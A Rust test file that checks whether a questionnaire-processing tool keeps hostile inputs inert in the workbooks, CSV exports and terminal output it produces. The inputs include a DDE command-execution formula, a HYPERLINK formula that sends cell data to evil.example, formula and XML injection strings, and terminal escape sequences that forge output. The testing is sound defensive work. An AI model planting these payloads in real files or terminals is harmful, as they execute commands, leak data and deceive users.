//! Texts that are built to hurt whoever opens a workbook with them: from the cells of a questionnaire through every
//! workbook that is made of it, where they must be plain text and nothing else.

use std::collections::BTreeSet;
use std::fs;
use std::io::{Cursor, Read};
use std::path::Path;

use maturity::cell::{Book, CellValue};

use crate::desk::Desk;
use crate::dirty::altered;
use crate::office::resaved;

/// Texts, and by what they are known again when they were cut or bent.
fn texts() -> Vec<(String, &'static str)> {
    let mut all: Vec<(String, &'static str)> = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+SUM(1,1)*cmd",
        "-2+3+cmd",
        "@SUM(1+9)*cmd",
        "{=1+1} array",
        "=1+1\n=2+2",
        "＝full width",
        "<script>alert(1)</script>&amp;<f>1+1</f>",
        "]]><f>1</f>",
        "<r><t>runs</t></si></r>",
        "_x003D_1+1 escaped",
        "javascript:alert(1)",
        "file://server/share/evil.xlsx",
    ]
    .iter()
    .map(|text| ((*text).to_owned(), *text))
    .collect();
    all.push(("\u{202e}gnp.esrever".to_owned(), "gnp.esrever"));
    all.push(("bell\u{7}escape\u{1b}null".to_owned(), "bell"));
    all.push((
        format!("https://example.org/{}", "very-long/".repeat(3_200)),
        "https://example.org/very-long",
    ));
    all.push((format!("wide {}", "😀".repeat(16_381)), "wide 😀"));
    all.push((format!("breaks{}", "\nline".repeat(400)), "breaks\nline"));
    all
}

fn book(bytes: &[u8]) -> Book {
    reader::read(bytes, &reader::Limits::default()).unwrap()
}

/// The given texts that stand in a workbook as text.
fn shown(book: &Book) -> BTreeSet<&'static str> {
    let cells: Vec<String> = book
        .sheets
        .iter()
        .flat_map(|sheet| &sheet.cells)
        .filter_map(|cell| match &cell.value {
            CellValue::Text(text) => Some(text.clone()),
            _ => None,
        })
        .collect();
    let known = texts().into_iter().map(|(_, known)| known);
    known.filter(|known| cells.iter().any(|text| text.contains(known))).collect()
}

/// What would make a workbook act: links that leave it, and formulas that hold one of the texts.
fn assert_inert(name: &str, workbook: &[u8]) {
    let mut archive = zip::ZipArchive::new(Cursor::new(workbook)).unwrap();
    for index in 0..archive.len() {
        let mut part = archive.by_index(index).unwrap();
        let part_name = part.name().unwrap().into_owned();
        let mut content = Vec::new();
        part.read_to_end(&mut content).unwrap();
        let content = String::from_utf8_lossy(&content);
        assert!(
            !content.contains("TargetMode=\"External\""),
            "{name}: {part_name} leads out of the workbook"
        );
        for formula in content.split("<f>").skip(1) {
            let formula = formula.split("</f>").next().unwrap_or_default();
            for word in ["cmd", "HYPERLINK", "evil", "1+9"] {
                assert!(!formula.contains(word), "{name}: {part_name} computes {formula}");
            }
        }
    }
    for cell in book(workbook).sheets.iter().flat_map(|sheet| &sheet.cells) {
        assert!(!matches!(cell.value, CellValue::Error(_)), "{name}: {} {:?}", cell.address, cell.value);
    }
}

/// No cell of any CSV file in a folder is one that a spreadsheet program runs; gives the number of cells.
fn assert_tables_are_inert(folder: &Path) -> usize {
    let mut cells = 0;
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|extension| extension != "csv") {
            continue;
        }
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(&path).unwrap();
        for record in reader.records() {
            for field in &record.unwrap() {
                cells += 1;
                let shown = field.trim_start_matches([' ', '\u{a0}', '\u{feff}', '\u{202e}']);
                let runs = shown.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
                assert!(!runs || field.parse::<f64>().is_ok(), "{}: {field:?}", path.display());
            }
        }
    }
    cells
}

#[test]
fn texts_built_to_hurt_are_plain_text_in_every_workbook_made_of_them() {
    let desk = Desk::with(&["KEN"]).returning();
    let texts = texts();
    // Evidence and comments of the questions of one sheet.
    let cells: Vec<String> =
        (0..texts.len()).map(|at| format!("{}{}", ["E", "F"][at % 2], 6 + at / 2)).collect();
    let changes: Vec<(&str, &str, &str)> =
        cells.iter().zip(&texts).map(|(cell, (text, _))| ("CGSI", cell.as_str(), text.as_str())).collect();
    let hurt = altered(&desk, "KEN", &changes);
    fs::remove_file(desk.path("inbox/KEN.xlsx")).unwrap();
    // The name of a file is a text of a stranger as well.
    fs::write(desk.path("inbox/=cmd|calc!A0 KEN.xlsx"), hurt).unwrap();

    let run = desk.gtmi(&["run"]);
    assert!(run.code == 0 || run.code == 1, "{}", run.stderr);
    let names = ["reports/KEN.xlsx", "feedback/KEN.xlsx", "global.xlsx"];
    let outputs = desk.outputs();
    for name in names {
        assert_inert(name, &outputs[name]);
    }
    let all: BTreeSet<&str> = texts.iter().map(|(_, known)| *known).collect();
    let returned = shown(&book(&outputs["feedback/KEN.xlsx"]));
    let missing: Vec<_> = all.difference(&returned).collect();
    assert!(missing.is_empty(), "not in the return: {missing:?}");
    let reported = shown(&book(&outputs["reports/KEN.xlsx"]));
    // The report shows evidence, and no comments.
    assert!(reported.len() >= 8, "{reported:?}");

    for format in ["csv", "sdmx"] {
        let export = desk.gtmi(&["export", "--format", format, "--out", format]);
        assert_eq!(export.code, 0, "{}", export.stderr);
        assert!(assert_tables_are_inert(&desk.path(format)) > 100);
    }

    // Another program opens them and finds the same texts.
    fs::rename(desk.path("out/feedback/KEN.xlsx"), desk.path("out/feedback/return.xlsx")).unwrap();
    let workbooks =
        ["reports/KEN.xlsx", "feedback/return.xlsx", "global.xlsx"].map(|name| desk.path("out").join(name));
    let out = desk.path("resaved");
    if resaved(&workbooks, &out) {
        for (name, before) in
            [("KEN.xlsx", reported), ("return.xlsx", returned), ("global.xlsx", BTreeSet::new())]
        {
            let bytes = fs::read(out.join(name)).unwrap();
            assert_inert(name, &bytes);
            let after = shown(&book(&bytes));
            assert!(after.is_superset(&before), "{name}: {before:?} {after:?}");
        }
    }
}

#[test]
fn nothing_that_a_stranger_wrote_steers_the_terminal() {
    let desk = Desk::with(&["KEN"]).returning();
    let hostile = "clear\u{1b}[2J\u{1b}]0;title\u{7}\rback\nresult all is well\u{202e}";
    let sent = altered(
        &desk,
        "KEN",
        &[("CGSI", "D7", hostile), ("CGSI", "E6", hostile), ("CGSI", "D6", "=\u{1b}[8m")],
    );
    fs::remove_file(desk.path("inbox/KEN.xlsx")).unwrap();
    let (sent_as, other) = (format!("KEN {hostile}.xlsx"), format!("other {hostile}.xlsx"));
    fs::write(desk.path("inbox").join(&sent_as), sent).unwrap();
    fs::write(desk.path("inbox").join(&other), "no workbook").unwrap();

    let (sent_as, other) = (format!("inbox/{sent_as}"), format!("inbox/{other}"));
    let commands: [&[&str]; 7] = [
        &["run"],
        &["status"],
        &["check", &sent_as],
        &["check", &other],
        &["explain", "KEN", "I-1.1"],
        &["respondents", "KEN"],
        &["check", "inbox/absent \u{1b}[2J.xlsx"],
    ];
    for command in commands {
        for color in ["always", "never"] {
            let said = desk.gtmi(&[command, &["--color", color, "--verbose"]].concat());
            let own = ["\u{1b}[1m", "\u{1b}[32m", "\u{1b}[1;33m", "\u{1b}[1;31m", "\u{1b}[0m"];
            let mut text = format!("{}{}", said.stdout, said.stderr);
            assert!(!text.is_empty(), "{command:?}");
            for line in text.lines().filter(|line| line.contains("all is well")) {
                assert!(!line.starts_with("result"), "{command:?}: {line:?}");
            }
            if color == "always" {
                // Log lines have colours of their own.
                text = own.iter().fold(text, |text, code| text.replace(code, ""));
                text = ["2m", "3m", "31m", "33m", "34m"]
                    .iter()
                    .fold(text, |text, code| text.replace(&format!("\u{1b}[{code}"), ""));
            }
            let steering = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
            assert!(!text.contains(steering), "{command:?} --color {color}: {text:?}");
        }
    }
}
